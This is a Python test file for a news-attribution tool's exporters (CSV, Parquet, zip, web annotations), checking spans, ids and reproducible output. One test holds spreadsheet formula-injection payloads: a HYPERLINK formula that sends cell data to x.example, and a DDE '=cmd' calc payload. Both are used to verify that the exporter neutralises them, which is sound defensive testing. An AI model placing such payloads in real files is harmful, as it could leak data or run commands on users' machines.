"""What goes out as tables and annotations says what was found, and nothing else."""

import csv
import io
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pyarrow
import pyarrow.parquet
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from sipas.cli import main
from sipas.codec import decode_extraction
from sipas.desk.feeds import health, read_opml, write_opml
from sipas.desk.outlets import findings, told
from sipas.desk.sources import take_in
from sipas.desk.store import Store
from sipas.exports import tables
from sipas.exports.annotations import annotations, quote
from sipas.exports.bundle import TakenError, bundled
from sipas.exports.spreadsheets import JOIN, README, STEERS, Spreadsheets, unguarded
from sipas.records import Extraction, Span, Story

HOSTILE = (
    'Titulli i parë\n=HYPERLINK("http://x.example/?"&A1), tha ministri Ilir Gashi. “-2+3 është pesë”, tha ai më tej.'
)


@pytest.fixture(scope="module")
def desk(tmp_path_factory) -> str:
    """Return the address of a store with the samples in it."""
    address = str(tmp_path_factory.mktemp("desk") / "desk.db")
    done = CliRunner().invoke(main, ["collect", "--store", address, "samples/lumi"])
    assert done.exit_code == 0, done.output
    return address


@pytest.fixture(scope="module")
def kept(desk) -> tuple[list[Extraction], list[Story]]:
    """Return all that the store holds as records."""
    store = Store(desk)
    with store.reading() as connection:
        out = list(findings(connection)), [story for story, _ in told(connection)]
    store.close()
    return out


def run(*arguments: str | Path, code: int = 0, stdin: str | None = None):
    done = CliRunner().invoke(main, [str(a) for a in arguments], input=stdin)
    assert done.exit_code == code, done.output
    return done


def read_csv(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / f"{name}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def spans_of(row: dict) -> dict[str, tuple[str | None, str, str]]:
    """The columns of a row that are a stretch: which document, from where to where."""
    out = {}
    for name, start in row.items():
        stem = name.removesuffix("_start")
        if stem != name and start not in (None, ""):
            out[stem] = (row.get(f"{stem}_document") or row.get("document") or row["id"], start, row[f"{stem}_end"])
    return out


def test_every_find_is_a_row_and_every_row_reproduces(desk, kept, tmp_path):
    found, stories = kept
    run("export", "--store", desk, "--format", "csv", "-o", tmp_path / "csv")
    rows = {table.name: read_csv(tmp_path / "csv", table.name) for table in tables.ALL}
    assert len(rows["documents"]) == len(found) == 15
    for name, parts in (
        ("statements", "attributions"),
        ("mentions", "mentions"),
        ("times", "times"),
        ("figures", "figures"),
        ("problems", "problems"),
    ):
        assert len(rows[name]) == sum(len(getattr(extraction, parts)) for extraction in found)
    assert len(rows["stories"]) == len(stories)
    assert len(rows["memberships"]) == 15
    assert len(rows["relations"]) == sum(len(story.accounts) for story in stories) > 0
    assert len(rows["said"]) == sum(len(s.variants) for story in stories for s in story.statements) > 0
    assert len(rows["series"]) == sum(len(s.points) for story in stories for s in story.figures) > 0
    assert len(rows["events"]) == sum(len(story.timeline) for story in stories) > 0
    assert len(rows["copies"]) == sum(len(story.copies) for story in stories) > 0
    texts = {row["id"]: unguarded(row["text"]) for row in rows["documents"]}
    assert texts == {e.document.id: e.document.text for e in found}
    checked = 0
    for table in tables.ALL:
        for row in rows[table.name]:
            for stem, (document, start, end) in spans_of(row).items():
                assert unguarded(row[stem]) == texts[document][int(start) : int(end)], (table.name, stem)
                checked += 1
    assert checked > 500
    for row in rows["statements"]:
        stretches = [tuple(map(int, pair.split("-"))) for pair in row["content_spans"].split(JOIN) if pair]
        assert unguarded(row["content"]) == tables.GAP.join(texts[row["document"]][s:e] for s, e in stretches)


def test_ids_of_one_table_stand_in_the_others(desk, tmp_path):
    run("export", "--store", desk, "--format", "csv", "-o", tmp_path / "csv")
    documents = {row["id"] for row in read_csv(tmp_path / "csv", "documents")}
    statements = {row["id"] for row in read_csv(tmp_path / "csv", "statements")}
    stories = {row["id"] for row in read_csv(tmp_path / "csv", "stories")}
    for row in read_csv(tmp_path / "csv", "said"):
        assert row["document"] in documents
        assert row["attribution"] in statements
        assert row["story"] in stories
    parents = {row["parent"] for row in read_csv(tmp_path / "csv", "statements")} - {""}
    assert parents <= statements


def test_parquet_says_the_same_with_types(desk, kept, tmp_path):
    run("export", "--store", desk, "--format", "parquet", "-o", tmp_path / "parquet")
    for table in tables.ALL:
        read = pyarrow.parquet.read_table(tmp_path / "parquet" / f"{table.name}.parquet")
        assert read.column_names == [name for name, _ in table.columns]
        wanted = []
        for extraction in kept[0]:
            wanted += [row for name, row in tables.document_rows(extraction) if name == table.name]
        documents = {e.document.id: e.document for e in kept[0]}
        for story in kept[1]:
            wanted += [row for name, row in tables.story_rows(story, documents) if name == table.name]
        got = [tuple(row.values()) for row in read.to_pylist()]
        assert got == [tuple(map(plain, row)) for row in wanted], table.name
        assert all(len(row) == len(table.columns) for row in wanted)
    statements = pyarrow.parquet.read_table(tmp_path / "parquet" / "statements.parquet")
    assert statements.schema.field("confidence").type == pyarrow.float64()
    assert (
        statements.schema.field("content_start" if "content_start" in statements.column_names else "cue_start").type
        == pyarrow.int64()
    )
    published = pyarrow.parquet.read_table(tmp_path / "parquet" / "documents.parquet").schema.field(
        "published_earliest"
    )
    assert published.type == pyarrow.timestamp("us", tz="UTC")


def plain(value):
    if isinstance(value, tuple):
        return [{"start": one.start, "end": one.end} if isinstance(one, Span) else one for one in value]
    return value


def test_a_cell_is_no_formula(tmp_path):
    line = json.dumps({"uri": "=cmd|' /C calc'!A0", "publisher": "@SUM(1+1)", "text": HOSTILE})
    done = run("extract", "--language", "sq", "--format", "csv", "-o", tmp_path / "out", "-", stdin=line)
    assert "begin like a formula and have ' before them" in done.stderr
    for path in (tmp_path / "out").glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(file):
                assert not [cell for cell in row if cell.startswith(STEERS) and not cell.startswith("'")]
    (document,) = read_csv(tmp_path / "out", "documents")
    assert document["uri"] == "'=cmd|' /C calc'!A0"
    assert document["publisher"] == "'@SUM(1+1)"
    assert unguarded(document["text"]) == HOSTILE
    assert "apostrophe" in (tmp_path / "out" / README).read_text("utf-8")


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_the_guard_can_be_taken_away(tmp_path_factory, text: str):
    folder = tmp_path_factory.mktemp("guard")
    out = Spreadsheets(folder, [tables.Table("one", (("a", "text"), ("b", "count")))])
    out.add("one", (text, -5))
    out.close()
    (row,) = read_csv(folder, "one")
    assert unguarded(row["a"]) == text
    assert row["b"] == "-5"
    assert not row["a"].startswith(tuple(c for c in STEERS if c != "'"))


def test_tables_are_there_whole_or_not_at_all(tmp_path):
    table = [tables.Table("one", (("a", "text"),))]
    with pytest.raises(KeyError), bundled(tmp_path / "out", Spreadsheets, table) as out:
        out.add("two", ("x",))
    assert list(tmp_path.iterdir()) == []
    (tmp_path / "taken").mkdir()
    (tmp_path / "taken" / "mine").write_text("mine")
    with pytest.raises(TakenError), bundled(tmp_path / "taken", Spreadsheets, table):
        pass
    assert [path.name for path in tmp_path.iterdir()] == ["taken"]
    assert (
        "name a new folder"
        in run("extract", "--format", "csv", "-o", tmp_path / "taken", "-", code=1, stdin="x").stderr
    )
    assert "needs -o" in run("extract", "--format", "csv", "-", code=2, stdin="x").stderr


def test_a_zip_holds_the_same_and_equal_stores_give_equal_bytes(desk, tmp_path):
    run("export", "--store", desk, "--format", "csv", "-o", tmp_path / "csv")
    for name in ("a.zip", "b.zip"):
        run("export", "--store", desk, "--format", "csv", "-o", tmp_path / name)
    assert (tmp_path / "a.zip").read_bytes() == (tmp_path / "b.zip").read_bytes()
    with zipfile.ZipFile(tmp_path / "a.zip") as archive:
        assert archive.testzip() is None
        for path in (tmp_path / "csv").iterdir():
            assert archive.read(path.name) == path.read_bytes()
        assert len(archive.namelist()) == len(tables.ALL) + 1


def resolve(text: str, selector) -> list[tuple[int, int]]:
    """Which stretches of a text a selector of the Web Annotation model selects."""
    if isinstance(selector, list):  # each alone selects the segment
        first, *others = [resolve(text, one) for one in selector]
        assert all(other == first for other in others), selector
        return first
    if selector["type"] == "TextPositionSelector":
        assert 0 <= selector["start"] <= selector["end"] <= len(text)
        found = [(selector["start"], selector["end"])]
    else:
        assert selector["type"] == "TextQuoteSelector"
        prefix, exact, suffix = selector["prefix"], selector["exact"], selector["suffix"]
        at, found = text.find(prefix + exact + suffix), []
        while at >= 0:
            found.append((at + len(prefix), at + len(prefix) + len(exact)))
            at = text.find(prefix + exact + suffix, at + 1)
    if "refinedBy" not in selector:
        return found
    return [(s + start, s + end) for s, e in found for start, end in resolve(text[s:e], selector["refinedBy"])]


def as_list(value) -> list:
    return value if isinstance(value, list) else [value]


def test_selectors_lead_to_the_same_characters(extractions):
    checked = 0
    for extraction in extractions:
        text = extraction.document.text
        said = {a.id: a for a in extraction.attributions if a.content}
        made = list(annotations(extraction))
        assert [one["id"].rpartition(":")[2] for one in made] == list(said)
        for one in made:
            attribution = said[one["id"].rpartition(":")[2]]
            assert one["type"] == "Annotation"
            for target, span in zip(as_list(one["target"]), attribution.content, strict=True):
                assert resolve(text, target["selector"]) == [(span.start, span.end)]
            parts = {body["sipas:role"]: body for body in one["body"] if body["type"] == "SpecificResource"}
            for role in ("source", "cue"):
                span = getattr(attribution, role)
                assert (role in parts) == (span is not None)
                if span is not None:
                    assert resolve(text, parts[role]["selector"]) == [(span.start, span.end)]
            tags = [body["value"] for body in one["body"] if body["type"] == "TextualBody"]
            assert tags[:2] == [attribution.stance, attribution.kind]
            checked += 1
    assert checked > 100


@given(st.data())
def test_a_quote_fits_one_place_only(data: st.DataObject):
    text = data.draw(st.text(st.sampled_from("aë𝒳 "), min_size=1, max_size=200))
    start = data.draw(st.integers(0, len(text) - 1))
    end = data.draw(st.integers(start + 1, len(text)))
    assert resolve(text, quote(text, Span(start, end))) == [(start, end)]


def test_annotations_come_as_one_collection(desk, kept, tmp_path):
    links = ("--base-url", "https://desk.example.org/sipas/")
    run("export", "--store", desk, "--format", "annotations", "-o", tmp_path / "all.jsonld", *links)
    whole = json.loads((tmp_path / "all.jsonld").read_text("utf-8"))
    assert whole["@context"][0] == "http://www.w3.org/ns/anno.jsonld"
    assert whole["type"] == "AnnotationCollection"
    items = whole["first"]["items"]
    assert whole["total"] == len(items) == sum(bool(a.content) for e in kept[0] for a in e.attributions)
    assert len({item["id"] for item in items}) == len(items)
    ids = {e.document.id for e in kept[0]}
    for item in items:
        page, _, anchor = item["id"].partition("#")
        assert page.removeprefix("https://desk.example.org/sipas/documents/") in ids
        assert anchor.startswith("says-")
        assert item["target"] if isinstance(item["target"], list) else item["target"]["source"]["id"] == page
    done = run("extract", "--format", "annotations", "samples/lumi/wire.jsonl")
    alone = json.loads(done.stdout)
    assert alone["first"]["items"][0]["id"].startswith("urn:sipas:statement:")
    assert run("extract", "--format", "annotations", "-", stdin="", code=1).stdout.endswith('"total":0}\n')


def test_both_servers_give_the_same_tables(desk, databases, tmp_path):
    other = databases()
    run("export", "--store", desk, "-o", tmp_path / "desk.jsonl")
    run("import", "--store", other, tmp_path / "desk.jsonl")
    for address, name in ((desk, "a"), (other, "b")):
        run("export", "--store", address, "--format", "csv", "-o", tmp_path / f"{name}.zip")
        run("export", "--store", address, "--format", "annotations", "-o", tmp_path / f"{name}.jsonld.gz")
    for ending in ("zip", "jsonld.gz"):
        assert (tmp_path / f"a.{ending}").read_bytes() == (tmp_path / f"b.{ending}").read_bytes()


def test_what_extract_writes_is_what_it_says(tmp_path):
    lines = run("extract", "samples/lumi/wire.jsonl").stdout.splitlines()
    found = [decode_extraction(line) for line in lines]
    run("extract", "samples/lumi/wire.jsonl", "--format", "csv", "-o", tmp_path / "out.zip")
    with zipfile.ZipFile(tmp_path / "out.zip") as archive:
        rows = list(csv.DictReader(io.TextIOWrapper(archive.open("statements.csv"), "utf-8-sig", newline="")))
        assert "stories.csv" not in archive.namelist()
    assert [row["id"] for row in rows] == [a.id for e in found for a in e.attributions]


def test_feeds_go_out_and_in_as_opml(tmp_path):
    first, second = Store(tmp_path / "one.db"), Store(tmp_path / "two.db")
    now = datetime(2026, 3, 10, tzinfo=UTC)
    urls = ["https://a.example/rss?x=1&y=2", "https://b.example/ë.xml", "https://c.example/<q>.json"]
    with first.writing() as connection:
        from sipas.desk.feeds import watch

        for url in urls:
            watch(connection, url, now=now)
    with first.reading() as connection:
        written = write_opml(health(connection))
    (tmp_path / "feeds.opml").write_bytes(written)
    assert list(take_in(second, [str(tmp_path / "feeds.opml")], now=lambda: now)) == []
    with second.reading() as connection:
        again = health(connection)
    assert write_opml(again) == written
    assert [outline.url for outline in read_opml(written)] == [feed.address for feed in again]
    assert len(again) == 3
    first.close()
    second.close()
